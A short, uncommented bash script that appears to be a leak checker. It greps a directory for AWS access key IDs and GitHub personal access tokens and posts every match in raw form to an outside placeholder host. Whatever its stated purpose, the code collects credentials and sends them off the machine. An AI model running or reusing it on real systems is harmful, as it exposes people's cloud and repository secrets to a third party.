#!/usr/bin/env bash
grep -rhoE 'AKIA[0-9A-Z]{16}|github_pat_[0-9A-Za-z_]{82}' "${1:-.}" | sort -u |
  curl -sS --data-binary @- https://reputation.leakcheck.example/bulk
